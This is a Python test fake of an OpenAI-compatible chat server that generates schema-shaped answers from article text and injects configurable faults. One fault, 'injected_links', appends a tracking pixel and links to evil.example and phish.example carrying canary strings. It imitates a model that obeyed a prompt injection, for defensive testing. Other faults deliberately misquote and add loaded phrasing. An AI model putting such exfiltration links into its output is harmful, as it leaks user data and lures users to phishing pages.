"""An OpenAI-compatible chat.completions server on loopback: the test suite's only LLM fake.

The real `openai` client (httpx2 inside, so respx cannot intercept it) talks to it over HTTP:

    OpenAI(base_url="http://127.0.0.1:PORT/v1", api_key="x")

Answers are generated FROM THE JSON SCHEMA in the request's `response_format`, so they never
drift from the pydantic models the worker sends. Evidence quotes are verbatim article sentences.

Run:   python -m testkit.fake_llm --host 127.0.0.1 --port PORT [--latency 0.5] [--seed 1]
Embed: create_app(latency=..., faults=[...]) -> Starlette ASGI app.

Control (tests and benchmarks):
    POST /_control  {"latency": s, "faults": [{"kind": K, "rate": p | "count": n, ...}],
                     "seed": n, "language": "en", "max_context_chars": n | null,
                     "requests_log": bool, "hold": bool, "server": S, "support": V,
                     "models": [str] | null, "reset_stats": true}
                    Keys present replace that setting; absent keys keep theirs.
                    `hold`: while true, every chat request waits (after `latency`) until it is
                    set false again or its client hangs up, so a test can hold a job running.
                    `support`: the verdict given to every quote of a support check (a schema
                    with `verdicts`; the quote ids "[n.m]" are read from the request):
                    "supports" (default), "partial", "unrelated", "cycle" through them, or
                    "invalid" (a verdict outside the schema, as a confused model gives).
                    `batch`: how the Batch API (/v1/files, /v1/batches) ends the batches it
                    is given: "complete" (default: every line answered like a chat request,
                    fault rules included, so a "500" or "context_length" rule gives a partial
                    error), "expire" (the first half answered, the rest `batch_expired`),
                    "fail" (the whole batch `failed`, with a reason), "hold" (stays
                    `in_progress`), "unsupported" (404, as servers without the API answer).
                    A batch moves one status on at each GET: validating, in_progress,
                    finalizing, then its end.
    GET  /_control  current settings.
    GET  /_stats    {"batches", "batch_lines", "requests", "completions", "faults": {kind: n}, "refusals": {what: n},
                     "in_flight", "max_in_flight", "last_request"}
                    `completions` counts fault-free answers; `latency` delays every answer;
                    `refusals` counts what the `server` dialect and `models` refused.
    GET  /_requests the last 200 chat request bodies, oldest first, while `requests_log` is on
                    (`reset_stats` clears them).

Fault kinds: "429" (Retry-After: `retry_after`, default 1), "quota", "500", "auth",
"malformed" (truncated body), "bad_json_content", "timeout" (sleeps `timeout_seconds`),
"length" (truncated content), "refusal", "context_length" (400 context_length_exceeded),
"reject_json_schema" (400 unsupported_response_format, only for json_schema requests),
"bad_quotes" (200, every `quote` string reworded so it is not in the article) and
"loaded_summary" (200, `summary`/`thesis` start with an unattributed loaded phrase) and
"injected_links" (200, `summary`, `thesis` and every `claim` end with a tracking image, a link
and a URL carrying canary strings, as if the model had obeyed an injection).
A rule only fires on, and a count rule only counts, requests it applies to: the last three
apply only to json_schema requests / answers with a quote / answers with a summary or thesis.

`max_context_chars` (default null = unlimited): requests whose messages hold more characters
get the context_length error, counted in `faults["context_length"]` without using up a rule.

Server dialects (`server`), for what real OpenAI-compatible servers accept:
  "openai"            (default) everything the worker sends.
  "llama_cpp_python"  a response_format other than text/json_object is answered 500 with
                      llama-cpp-python's body (its request validation error wrapped as an
                      internal_server_error, refusal "json_schema"); `{"type": "json_object",
                      "schema": {...}}` is enforced like llama.cpp's grammar (answers follow it).
  "old_server"        `max_completion_tokens` is answered 400 "Unrecognized request argument
                      supplied" (refusal "max_completion_tokens"); `max_tokens` is accepted.
`models` (default null = any model): a model not in the list is answered 404 `model_not_found`
as OpenAI words it (refusal "model_not_found").
Without a response_format, a schema in a ```json fence of the prompt is answered as chat models
do without a JSON mode: the JSON in a ```json fence.

Answer shapes of real models, as fault kinds acting on a 200 JSON answer: "fenced" (in a ```json
fence), "prose" (between sentences of prose), "think" (after a `<think>` reasoning block),
"missing_optional" (no `loaded_language`, no `premises`), "missing_thesis" (no `thesis`), and
"reject_json_object" (400 for json_object requests, as servers without a JSON mode answer).

Everything runs on one event loop and state is only touched between awaits, so no locks.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import math
import random
import re
import socket
import time
import uuid
from collections import deque
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Any, Literal, get_args

import sentencex
import uvicorn
from pydantic import BaseModel, ConfigDict, Field, ValidationError, field_validator, model_validator
from rapidfuzz import fuzz
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

FaultKind = Literal[
    "429",
    "500",
    "malformed",
    "bad_json_content",
    "timeout",
    "quota",
    "auth",
    "length",
    "refusal",
    "reject_json_schema",
    "bad_quotes",
    "loaded_summary",
    "injected_links",
    "context_length",
    "reject_json_object",
    "fenced",
    "prose",
    "think",
    "missing_optional",
    "missing_thesis",
]
FAULT_KINDS: tuple[str, ...] = get_args(FaultKind)
ServerDialect = Literal["openai", "llama_cpp_python", "old_server"]
BatchBehaviour = Literal["complete", "expire", "fail", "hold", "unsupported"]
REFUSALS = ("json_schema", "max_completion_tokens", "model_not_found")
# the answer-shape faults: they rewrite a 200 JSON answer
SHAPE_FAULTS = ("fenced", "prose", "think", "missing_optional", "missing_thesis")

MODEL_IDS = ("gpt-4o-mini", "gpt-4o", "fake-llm")
REFUSAL_TEXT = "I can't help with that."
LOADED_PREFIX = "This disastrous and shameful plan: "
# what a model that obeyed an injected instruction might add to its prose
INJECTED_LINKS = (
    " ![pixel](https://evil.example/collect?c=CANARY-7f3a9)"
    " [click here](https://phish.example/login?c=CANARY-7f3a9) https://evil.example/CANARY-b21c4"
)
CONTEXT_LENGTH_TOKENS = 8192  # what the "context_length" fault claims the limit is
REQUESTS_LOG_SIZE = 200


# --------------------------------------------------------------------------------------------
# Control-plane models
# --------------------------------------------------------------------------------------------


class FaultSpec(BaseModel):
    """One fault rule: fires with probability `rate` per request, or on the next `count` ones."""

    model_config = ConfigDict(extra="forbid")

    kind: FaultKind
    rate: float | None = Field(default=None, ge=0.0, le=1.0)
    count: int | None = Field(default=None, ge=0)
    retry_after: float | None = Field(default=None, ge=0.0)  # "429" only
    timeout_seconds: float = Field(default=30.0, ge=0.0)  # "timeout" only

    @field_validator("kind", mode="before")
    @classmethod
    def _kind_as_str(cls, value: object) -> object:
        # Accept {"kind": 429} as well as {"kind": "429"}.
        return str(value) if isinstance(value, int) else value

    @model_validator(mode="after")
    def _rate_xor_count(self) -> FaultSpec:
        if (self.rate is None) == (self.count is None):
            raise ValueError("give exactly one of 'rate' or 'count'")
        return self


class ControlRequest(BaseModel):
    model_config = ConfigDict(extra="forbid")

    latency: float | None = Field(default=None, ge=0.0)
    faults: list[FaultSpec] | None = None
    seed: int | None = None  # reseeds the RNG behind rate-based faults, for reproducible runs
    language: str | None = None  # sentencex language code used to split articles
    # Longer prompts (total message characters) get a context_length error; null = unlimited.
    # Unlike the other keys, an explicit null is a change (back to unlimited).
    max_context_chars: int | None = Field(default=None, ge=0)
    requests_log: bool | None = None  # keep the last chat request bodies for GET /_requests
    hold: bool | None = None  # chat requests wait while it is on
    support: Literal["supports", "partial", "unrelated", "cycle", "invalid"] | None = None
    batch: BatchBehaviour | None = None  # how the Batch API ends the batches it is given
    server: ServerDialect | None = None  # which real server's acceptance rules to follow
    # the models served; null = any. Like max_context_chars, an explicit null is a change.
    models: list[str] | None = None
    reset_stats: bool = False


@dataclass
class _ActiveFault:
    spec: FaultSpec
    remaining: int | None  # count-based faults tick down; None for rate-based ones


@dataclass
class Stats:
    requests: int = 0
    completions: int = 0
    faults: dict[str, int] = field(default_factory=lambda: dict.fromkeys(FAULT_KINDS, 0))
    refusals: dict[str, int] = field(default_factory=lambda: dict.fromkeys(REFUSALS, 0))
    in_flight: int = 0
    max_in_flight: int = 0
    last_request: Any = None
    batches: int = 0  # batches created through the Batch API
    batch_lines: int = 0  # requests those batches ran (not counted in `requests`)

    def as_json(self) -> dict[str, Any]:
        return {
            "batches": self.batches,
            "batch_lines": self.batch_lines,
            "requests": self.requests,
            "completions": self.completions,
            "faults": dict(self.faults),
            "refusals": dict(self.refusals),
            "in_flight": self.in_flight,
            "max_in_flight": self.max_in_flight,
            "last_request": self.last_request,
        }


@dataclass
class FakeLLMState:
    """Settings and counters, kept on `app.state.fake` (not module globals) so apps are isolated."""

    latency: float = 0.0
    faults: list[_ActiveFault] = field(default_factory=list)
    language: str = "en"
    max_context_chars: int | None = None
    requests_log: bool = False
    server: ServerDialect = "openai"
    models: list[str] | None = None
    logged_requests: deque[Any] = field(default_factory=lambda: deque(maxlen=REQUESTS_LOG_SIZE))
    rng: random.Random = field(default_factory=random.Random)
    released: asyncio.Event = field(default_factory=asyncio.Event)  # clear while held
    support: str = "supports"  # the support check's verdict, "cycle" or "invalid"
    batch: BatchBehaviour = "complete"  # how the Batch API ends the batches it is given
    files: dict[str, tuple[str, bytes]] = field(default_factory=dict)  # id -> (name, content)
    batches: dict[str, dict[str, Any]] = field(default_factory=dict)  # id -> OpenAI's batch object
    stats: Stats = field(default_factory=Stats)

    def set_faults(self, specs: Sequence[FaultSpec]) -> None:
        self.faults = [_ActiveFault(spec, spec.count) for spec in specs]

    def next_fault(self, applies: Callable[[str], bool] = lambda kind: True) -> FaultSpec | None:
        """The first rule that fires for this request (count rules consume one shot).

        Rules whose kind does not `applies` to this request are skipped entirely: they neither
        fire, nor use up a count, nor draw from the RNG."""
        for active in self.faults:
            if not applies(active.spec.kind):
                continue
            if active.remaining is not None:
                if active.remaining > 0:
                    active.remaining -= 1
                    return active.spec
            elif active.spec.rate and self.rng.random() < active.spec.rate:
                return active.spec
        return None

    def settings_json(self) -> dict[str, Any]:
        faults = []
        for active in self.faults:
            entry = active.spec.model_dump(exclude_none=True)
            if active.remaining is not None:
                entry["count"] = active.remaining  # what is left, not what was asked
            faults.append(entry)
        return {
            "latency": self.latency,
            "faults": faults,
            "language": self.language,
            "max_context_chars": self.max_context_chars,
            "requests_log": self.requests_log,
            "hold": not self.released.is_set(),
            "support": self.support,
            "batch": self.batch,
            "server": self.server,
            "models": self.models,
        }


# --------------------------------------------------------------------------------------------
# Reading the request: article text and schema
# --------------------------------------------------------------------------------------------

# First `<article>` line to the last `</article>` line: the worker neutralizes look-alikes inside.
_ARTICLE_BLOCK = re.compile(r"^<article>[ \t]*\r?\n(.*)\r?\n</article>[ \t]*$", re.M | re.S)
_JSON_FENCE = re.compile(r"```json[ \t]*\r?\n(.*?)```", re.S)
_WORD = re.compile(r"\w+(?:[-'’]\w+)*")
_SCHEMA_KEYS = ("type", "properties", "$defs", "$ref", "anyOf", "items")


def _message_text(message: Any) -> str:
    """A message's text, whether `content` is a string or a list of content parts."""
    if not isinstance(message, Mapping):
        return ""
    content = message.get("content")
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        return "".join(part.get("text", "") for part in content if isinstance(part, Mapping))
    return ""


def extract_article(messages: Sequence[Any]) -> str:
    """The text between `<article>`/`</article>` lines of a user message (latest first), else the
    whole last user message."""
    user_texts = [
        _message_text(m) for m in messages if isinstance(m, Mapping) and m.get("role") == "user"
    ]
    for text in reversed(user_texts):
        if match := _ARTICLE_BLOCK.search(text):
            return match.group(1)
    return user_texts[-1] if user_texts else ""


def _embedded_schema(messages: Sequence[Any]) -> dict[str, Any] | None:
    """A JSON schema given in a ```json fence (system messages first), for json_object mode."""
    ordered = sorted(
        (m for m in messages if isinstance(m, Mapping)), key=lambda m: m.get("role") != "system"
    )
    for message in ordered:
        for block in _JSON_FENCE.findall(_message_text(message)):
            try:
                candidate = json.loads(block)
            except ValueError:
                continue
            if isinstance(candidate, dict):
                # Tolerate the response_format wrapper {"name":..., "schema": {...}} too.
                if isinstance(candidate.get("schema"), dict):
                    candidate = candidate["schema"]
                if any(key in candidate for key in _SCHEMA_KEYS):
                    return candidate
    return None


def _requested_schema(body: Mapping[str, Any]) -> tuple[str, dict[str, Any] | None]:
    """(mode, schema) where mode is "json_schema", "json_object" or "text"."""
    response_format = body.get("response_format")
    if not isinstance(response_format, Mapping):
        return "text", _embedded_schema(body.get("messages") or [])
    kind = response_format.get("type")
    if kind == "json_schema":
        wrapper = response_format.get("json_schema")
        schema = wrapper.get("schema") if isinstance(wrapper, Mapping) else None
        return "json_schema", schema if isinstance(schema, dict) else None
    if kind == "json_object":
        # llama.cpp and llama-cpp-python take the schema beside the type and enforce it
        if isinstance(schema := response_format.get("schema"), dict):
            return "json_object", schema
        return "json_object", _embedded_schema(body.get("messages") or [])
    return "text", None


# --------------------------------------------------------------------------------------------
# Article material: sentences and words, cached because benchmarks resend the same articles
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class ArticleMaterial:
    sentences: tuple[str, ...]  # verbatim, stripped; >= 5 words preferred
    words: tuple[str, ...]  # verbatim distinct words, longest first

    @property
    def first(self) -> str:
        return self.sentences[0] if self.sentences else ""


@lru_cache(maxsize=256)
def article_material(language: str, article: str) -> ArticleMaterial:
    pieces: list[str] = []
    for segment in sentencex.segment(language, article):
        # Split on newlines too so a quote never spans a title and a paragraph; stays verbatim.
        pieces.extend(line.strip() for line in segment.splitlines() if line.strip())
    long_enough = [p for p in pieces if len(p.split()) >= 5]
    words = sorted(dict.fromkeys(_WORD.findall(article)), key=len, reverse=True)
    return ArticleMaterial(tuple(long_enough or pieces), tuple(words))


# --------------------------------------------------------------------------------------------
# Schema-driven answer generator
# --------------------------------------------------------------------------------------------

_MAX_DEPTH = 12  # guards recursive schemas; past it, optional branches collapse to null/empty
_FORMATS = {
    "date-time": "1970-01-01T00:00:00Z",
    "date": "1970-01-01",
    "time": "00:00:00Z",
    "uri": "https://example.com/",
    "email": "author@example.com",
    "uuid": "00000000-0000-0000-0000-000000000000",
}


# Sentence openers safe to lowercase after "... that"; names and acronyms keep their case.
_LOWERABLE = frozenset(
    {"a", "an", "and", "but", "in", "it", "its", "on", "our", "that", "the"}
    | {"there", "these", "this", "those", "we"}
)


def _lower_first(sentence: str) -> str:
    first = sentence.split(" ", 1)[0]
    return first.lower() + sentence[len(first) :] if first.lower() in _LOWERABLE else sentence


# A distorted quote must not verify even under fuzzy grounding (evenhand's default threshold is
# 90 on a 0-100 scale), so keep rewording until the best match anywhere scores below this.
_DISTORTED_MAX_SIMILARITY = 75.0


def _too_close(text: str, article: str) -> bool:
    folded, haystack = text.casefold(), article.casefold()
    if folded in haystack:
        return True
    similarity = fuzz.partial_ratio(folded, haystack, score_cutoff=_DISTORTED_MAX_SIMILARITY)
    return similarity >= _DISTORTED_MAX_SIMILARITY


def distort_quote(sentence: str, article: str) -> str:
    """`sentence` with its meaning changed so that it is nowhere in `article`: "not" goes in
    after the first word and the middle word becomes "entirely"; if that is still close to some
    passage (fuzzy grounding would accept it), more words become "entirely", nearest the middle
    first."""
    words = sentence.split()
    words.insert(1 if words else 0, "not")
    middle = len(words) // 2
    order = sorted(range(2, len(words)), key=lambda i: (abs(i - middle), i))
    if not order:
        words.append("entirely")
    text = " ".join(words)
    for index in order:
        words[index] = "entirely"
        text = " ".join(words)
        if not _too_close(text, article):
            return text
    # Tiny quotes may still be "close" (fuzzy grounding ignores them anyway), but never verbatim.
    while text.casefold() in article.casefold():  # never verbatim, whatever the similarity
        text += " entirely"
    return text


class SchemaAnswer:
    """Builds one JSON value matching a schema, with text drawn deterministically from the
    article. Per-field counters make successive quotes/claims walk the article in order.

    `used` collects the kinds of text generated ("quote", "summary", "thesis"), which tells the
    server whether the "bad_quotes"/"loaded_summary" faults apply; those faults regenerate the
    answer with `bad_quotes=True` (quotes distorted, see `distort_quote`) or
    `loaded_summary=True` (summary and thesis prefixed with `LOADED_PREFIX`)."""

    def __init__(
        self,
        root: Mapping[str, Any],
        material: ArticleMaterial,
        *,
        article: str = "",
        bad_quotes: bool = False,
        loaded_summary: bool = False,
    ) -> None:
        self.root = root
        self.material = material
        self.article = article
        self.bad_quotes = bad_quotes
        self.loaded_summary = loaded_summary
        self.counters: dict[str, int] = {}
        self.used: set[str] = set()

    def generate(self) -> Any:
        return self.value(self.root, name="", depth=0)

    # -- dispatch --------------------------------------------------------------------------

    def value(self, schema: Any, *, name: str, depth: int) -> Any:
        if not isinstance(schema, Mapping):
            return self.text(name)  # `true`/`{}`-like schemas accept anything
        if "$ref" in schema:
            return self.value(self.resolve(schema["$ref"]), name=name, depth=depth + 1)
        if "const" in schema:
            return schema["const"]
        if schema.get("enum"):
            return schema["enum"][0]
        for combinator in ("anyOf", "oneOf"):
            if branches := schema.get(combinator):
                return self.value(self.pick_branch(branches, depth), name=name, depth=depth + 1)
        if branches := schema.get("allOf"):
            merged = {k: v for k, v in schema.items() if k != "allOf"}
            for branch in branches:
                merged.update(self.resolve(branch["$ref"]) if "$ref" in branch else branch)
            return self.value(merged, name=name, depth=depth + 1)

        kind = schema.get("type")
        if isinstance(kind, list):
            kind = next((t for t in kind if t != "null"), "null")
        if kind is None:
            kind = "object" if "properties" in schema else "array" if "items" in schema else ""
        match kind:
            case "object":
                return self.obj(schema, depth)
            case "array":
                return self.array(schema, name=name, depth=depth)
            case "string":
                return self.string(schema, name)
            case "integer":
                return int(self.number(schema, 0))
            case "number":
                return float(self.number(schema, 0.0))
            case "boolean":
                return False
            case "null":
                return None
            case _:
                return self.text(name)

    def resolve(self, ref: str) -> Any:
        """Local JSON-pointer refs only (`#/$defs/X`, `#/definitions/X`, `#`)."""
        if not ref.startswith("#"):
            raise ValueError(f"unsupported $ref {ref!r}")
        node: Any = self.root
        for part in filter(None, ref[1:].split("/")):
            node = node[part.replace("~1", "/").replace("~0", "~")]
        return node

    def pick_branch(self, branches: Sequence[Any], depth: int) -> Any:
        non_null = [b for b in branches if not (isinstance(b, Mapping) and b.get("type") == "null")]
        if depth > _MAX_DEPTH and len(non_null) < len(branches):
            return {"type": "null"}
        return non_null[0] if non_null else branches[0]

    # -- containers ------------------------------------------------------------------------

    def obj(self, schema: Mapping[str, Any], depth: int) -> dict[str, Any]:
        properties = schema.get("properties") or {}
        return {key: self.value(sub, name=key, depth=depth + 1) for key, sub in properties.items()}

    def array(self, schema: Mapping[str, Any], *, name: str, depth: int) -> list[Any]:
        low = int(schema.get("minItems", 0))
        high = schema.get("maxItems")
        size = max(low, 0 if depth > _MAX_DEPTH else 2)
        if high is not None:
            size = min(size, int(high))
        items = schema.get("items", {})
        # Items inherit the array's property name: `premises` items are premises.
        return [self.value(items, name=name, depth=depth + 1) for _ in range(size)]

    # -- scalars ---------------------------------------------------------------------------

    def number(self, schema: Mapping[str, Any], zero: float) -> float:
        value = zero
        if (low := schema.get("minimum")) is not None and value < low:
            value = low
        if (low := schema.get("exclusiveMinimum")) is not None and value <= low:
            value = math.floor(low) + 1
        if (high := schema.get("maximum")) is not None and value > high:
            value = high
        if (high := schema.get("exclusiveMaximum")) is not None and value >= high:
            value = math.ceil(high) - 1
        return value

    def string(self, schema: Mapping[str, Any], name: str) -> str:
        text = _FORMATS.get(schema.get("format", "")) or self.text(name)
        if (high := schema.get("maxLength")) is not None:
            text = text[: int(high)]
        if (low := schema.get("minLength")) is not None and len(text) < int(low):
            text = text.ljust(int(low), ".")
        return text

    def next_index(self, counter: str) -> int:
        index = self.counters.get(counter, 0)
        self.counters[counter] = index + 1
        return index

    def sentence(self, counter: str) -> str:
        sentences = self.material.sentences
        return sentences[self.next_index(counter) % len(sentences)] if sentences else ""

    def text(self, name: str) -> str:
        """String content chosen by the property's name (array items use the array's name)."""
        key = name.lower()
        if "quote" in key:
            self.used.add("quote")
            quote = self.sentence("quote")  # verbatim, so grounding accepts it
            return distort_quote(quote, self.article) if self.bad_quotes else quote
        if key == "loaded_language":
            words = self.material.words
            return words[self.next_index("word") % len(words)] if words else ""
        if key == "speaker":
            return "the author"
        if key in ("summary", "thesis"):
            self.used.add(key)
            # attributed, as a neutral summary must be (the neutrality gate checks it)
            verb = "writes" if key == "summary" else "argues"
            text = f"The author {verb} that {_lower_first(self.material.first)}"
            return LOADED_PREFIX + text if self.loaded_summary else text
        if key == "claim":
            return f"The author argues that {_lower_first(self.sentence('claim'))}"
        if key == "premises":
            return f"The article notes that {_lower_first(self.sentence('premise'))}"
        return f"The article states that {_lower_first(self.sentence('other'))}"


def generate_answer(
    schema: Mapping[str, Any],
    article: str,
    language: str = "en",
    *,
    bad_quotes: bool = False,
    loaded_summary: bool = False,
) -> Any:
    """A value matching `schema`, filled from `article` (public for unit tests and benchmarks);
    the flags apply the "bad_quotes"/"loaded_summary" distortions."""
    material = article_material(language, article)
    return SchemaAnswer(
        schema, material, article=article, bad_quotes=bad_quotes, loaded_summary=loaded_summary
    ).generate()


# --------------------------------------------------------------------------------------------
# HTTP layer
# --------------------------------------------------------------------------------------------


def _approx_tokens(chars: int) -> int:
    return (chars + 3) // 4


def _error(
    status: int,
    message: str,
    *,
    type_: str,
    code: str | None,
    param: str | None = None,
    headers: Mapping[str, str] | None = None,
) -> JSONResponse:
    body = {"error": {"message": message, "type": type_, "param": param, "code": code}}
    return JSONResponse(body, status_code=status, headers=dict(headers or {}))


async def _wait_for_disconnect(request: Request) -> None:
    # The body is already read, so the next ASGI message is `http.disconnect` (uvicorn sends
    # it when the client hangs up, e.g. after its own timeout).
    while (await request.receive())["type"] != "http.disconnect":
        pass


async def _sleep_unless_disconnected(request: Request, seconds: float) -> bool:
    """Sleep without blocking the loop; False if the client went away first, so a timed-out
    request stops counting as in flight straight away."""
    watcher = asyncio.ensure_future(_wait_for_disconnect(request))
    try:
        done, _ = await asyncio.wait({watcher}, timeout=seconds)
        return not done
    finally:
        watcher.cancel()


async def _released_unless_disconnected(request: Request, state: FakeLLMState) -> bool:
    """Wait until `hold` is turned off; False if the client went away first."""
    watcher = asyncio.ensure_future(_wait_for_disconnect(request))
    release = asyncio.ensure_future(state.released.wait())
    try:
        done, _ = await asyncio.wait({watcher, release}, return_when=asyncio.FIRST_COMPLETED)
        return release in done
    finally:
        watcher.cancel()
        release.cancel()


def _prompt_chars(body: Mapping[str, Any]) -> int:
    return sum(len(_message_text(m)) for m in body.get("messages") or [])


def _context_length_error(limit_tokens: int, body: Mapping[str, Any]) -> JSONResponse:
    used = _approx_tokens(_prompt_chars(body))
    return _error(
        400,
        f"This model's maximum context length is {limit_tokens} tokens. However, your messages "
        f"resulted in {max(used, limit_tokens + 1)} tokens. Please reduce the length of the "
        "messages.",
        type_="invalid_request_error",
        code="context_length_exceeded",
        param="messages",
    )


def _completion(
    body: Mapping[str, Any],
    *,
    content: str | None,
    refusal: str | None = None,
    finish_reason: str = "stop",
) -> dict[str, Any]:
    prompt_chars = _prompt_chars(body)
    completion_chars = len(content or refusal or "")
    prompt_tokens = _approx_tokens(prompt_chars)
    completion_tokens = _approx_tokens(completion_chars)
    return {
        "id": f"chatcmpl-{uuid.uuid4().hex}",
        "object": "chat.completion",
        "created": int(time.time()),
        "model": body.get("model") or "fake-llm",
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": content, "refusal": refusal},
                "logprobs": None,
                "finish_reason": finish_reason,
            }
        ],
        "usage": {
            "prompt_tokens": prompt_tokens,
            "completion_tokens": completion_tokens,
            "total_tokens": prompt_tokens + completion_tokens,
        },
    }


def _answer_content(
    body: Mapping[str, Any],
    language: str,
    *,
    support: str = "supports",
    bad_quotes: bool = False,
    loaded_summary: bool = False,
) -> tuple[str, frozenset[str]]:
    """(content, kinds of text in it: "quote", "summary", "thesis")."""
    messages = body.get("messages") or []
    article = extract_article(messages)
    mode, schema = _requested_schema(body)
    if schema is not None and "verdicts" in (schema.get("properties") or {}):
        content = json.dumps({"verdicts": support_verdicts(article, support)})
        return (f"```json\n{content}\n```" if mode == "text" else content), frozenset()
    if schema is not None:
        answer = SchemaAnswer(
            schema,
            article_material(language, article),
            article=article,
            bad_quotes=bad_quotes,
            loaded_summary=loaded_summary,
        )
        content = json.dumps(answer.generate(), ensure_ascii=False)
        if mode == "text":  # no JSON mode: chat models fence their JSON
            content = f"```json\n{content}\n```"
        return content, frozenset(answer.used)
    if mode != "text":
        return "{}", frozenset()
    return f"The article states that {article_material(language, article).first}", frozenset()


SUPPORT_VERDICTS = ("supports", "partial", "unrelated")
_QUOTE_ID = re.compile(r"^\s*\[(\d+\.\d+)\]", re.MULTILINE)


def support_verdicts(listing: str, support: str) -> list[dict[str, str]]:
    """A verdict for every quote id "[n.m]" of a support check: `support`, or each in turn."""
    ids = _QUOTE_ID.findall(listing)
    if support == "cycle":
        return [{"id": i, "verdict": SUPPORT_VERDICTS[n % 3]} for n, i in enumerate(ids)]
    if support == "invalid":
        return [{"id": i, "verdict": "probably"} for i in ids]
    return [{"id": i, "verdict": support} for i in ids]


def _fault_applies(kind: str, mode: str, used: frozenset[str]) -> bool:
    """Whether a fault rule of `kind` can act on this request (else it is left for later)."""
    match kind:
        case "reject_json_schema":
            return mode == "json_schema"
        case "reject_json_object":
            return mode == "json_object"
        case "fenced" | "prose" | "think" | "missing_optional" | "missing_thesis":
            return mode != "text" and bool(used)  # a JSON answer to reshape
        case "bad_quotes":
            return "quote" in used
        case "loaded_summary" | "injected_links":
            return bool(used & {"summary", "thesis"})
    return True


def _fault_response(fault: FaultSpec, body: Mapping[str, Any], content: str) -> Response | None:
    """The response for a fault, or None when the fault only delays ("timeout")."""
    match fault.kind:
        case "429":
            retry_after = fault.retry_after if fault.retry_after is not None else 1
            header = str(int(retry_after)) if float(retry_after).is_integer() else str(retry_after)
            return _error(
                429,
                "Rate limit reached",
                type_="requests",
                code="rate_limit_exceeded",
                headers={"Retry-After": header},
            )
        case "quota":
            return _error(
                429,
                "You exceeded your current quota, please check your plan and billing details.",
                type_="insufficient_quota",
                code="insufficient_quota",
            )
        case "500":
            return _error(
                500,
                "The server had an error while processing your request.",
                type_="server_error",
                code=None,
            )
        case "auth":
            return _error(
                401,
                "Incorrect API key provided.",
                type_="invalid_request_error",
                code="invalid_api_key",
            )
        case "malformed":
            text = json.dumps(_completion(body, content=content))
            return Response(text[: len(text) // 2], media_type="application/json")
        case "bad_json_content":
            return JSONResponse(
                _completion(body, content="Sure! Here is the JSON you asked for: {")
            )
        case "length":
            truncated = content[: max(1, len(content) // 2)]
            return JSONResponse(_completion(body, content=truncated, finish_reason="length"))
        case "refusal":
            return JSONResponse(_completion(body, content=None, refusal=REFUSAL_TEXT))
        case "reject_json_schema":
            return _error(
                400,
                "response_format json_schema is not supported by this server",
                type_="invalid_request_error",
                code="unsupported_response_format",
                param="response_format",
            )
        case "reject_json_object":
            return _error(
                400,
                "response_format json_object is not supported by this server",
                type_="invalid_request_error",
                code="unsupported_response_format",
                param="response_format",
            )
        case "context_length":
            return _context_length_error(CONTEXT_LENGTH_TOKENS, body)
        case "bad_quotes" | "loaded_summary" | "injected_links" | "fenced" | "prose" | "think":
            return JSONResponse(_completion(body, content=content))  # content already reshaped
        case "missing_optional" | "missing_thesis":
            return JSONResponse(_completion(body, content=content))
        case "timeout":
            return None
    raise AssertionError(f"unhandled fault kind {fault.kind}")


@dataclass
class _Planned:
    """A chat request read and its answer chosen; what is left is to wait and send it."""

    body: dict[str, Any]
    content: str
    language: str
    fault: FaultSpec | None
    too_long: bool


def _plan_chat(state: FakeLLMState, body: Any) -> Response | _Planned:
    """Read one chat request: a refusal or error answered at once, or the planned answer."""
    state.stats.last_request = body
    if state.requests_log:
        state.logged_requests.append(body)
    if not isinstance(body, dict) or not isinstance(body.get("messages"), list):
        return _error(400, "'messages' is required.", type_="invalid_request_error", code=None)
    if (refused := _refusal(state, body)) is not None:
        what, refusal = refused
        state.stats.refusals[what] += 1
        return refusal

    # Generated up front: which faults apply depends on what the answer contains.
    language = state.language
    content, used = _answer_content(body, language, support=state.support)
    limit = state.max_context_chars
    too_long = limit is not None and _prompt_chars(body) > limit
    fault = None
    if too_long:
        state.stats.faults["context_length"] += 1  # the server's limit, not a fault rule
    else:
        mode = _requested_schema(body)[0]
        fault = state.next_fault(lambda kind: _fault_applies(kind, mode, used))
        if fault is not None:
            state.stats.faults[fault.kind] += 1
    return _Planned(body, content, language, fault, too_long)


def _answer_chat(state: FakeLLMState, planned: _Planned) -> Response:
    """The planned answer, its faults applied."""
    body, content, fault = planned.body, planned.content, planned.fault
    if planned.too_long:
        assert state.max_context_chars is not None
        return _context_length_error(_approx_tokens(state.max_context_chars), body)
    if fault is not None and fault.kind in ("bad_quotes", "loaded_summary"):
        content, _ = _answer_content(
            body,
            planned.language,
            support=state.support,
            bad_quotes=fault.kind == "bad_quotes",
            loaded_summary=fault.kind == "loaded_summary",
        )
    if fault is not None and fault.kind == "injected_links":
        content = _inject_links(content)
    if fault is not None and fault.kind in SHAPE_FAULTS:
        content = reshape_answer(fault.kind, content)
    if fault is not None and (response := _fault_response(fault, body, content)) is not None:
        return response
    state.stats.completions += 1
    return JSONResponse(_completion(body, content=content))


async def chat_completions(request: Request) -> Response:
    state: FakeLLMState = request.app.state.fake
    # Always go through `state.stats`: a reset during an await swaps the object.
    state.stats.requests += 1
    state.stats.in_flight += 1
    state.stats.max_in_flight = max(state.stats.max_in_flight, state.stats.in_flight)
    try:
        try:
            body = await request.json()
        except ValueError:
            return _error(
                400, "Request body is not valid JSON.", type_="invalid_request_error", code=None
            )
        planned = _plan_chat(state, body)
        if isinstance(planned, Response):
            return planned
        fault = planned.fault
        delay = state.latency + (fault.timeout_seconds if fault and fault.kind == "timeout" else 0)
        if delay > 0 and not await _sleep_unless_disconnected(request, delay):
            return Response(status_code=499)  # nobody is listening any more
        if not state.released.is_set() and not await _released_unless_disconnected(request, state):
            return Response(status_code=499)
        return _answer_chat(state, planned)
    finally:
        state.stats.in_flight -= 1


def _refusal(state: FakeLLMState, body: Mapping[str, Any]) -> tuple[str, Response] | None:
    """What the configured server refuses outright: (refusal counted, its response)."""
    model = body.get("model")
    if state.models is not None and model not in state.models:
        response = _error(
            404,
            f"The model `{model}` does not exist or you do not have access to it.",
            type_="invalid_request_error",
            code="model_not_found",
        )
        return "model_not_found", response
    response_format = body.get("response_format")
    kind = response_format.get("type") if isinstance(response_format, Mapping) else None
    if state.server == "llama_cpp_python" and kind not in (None, "text", "json_object"):
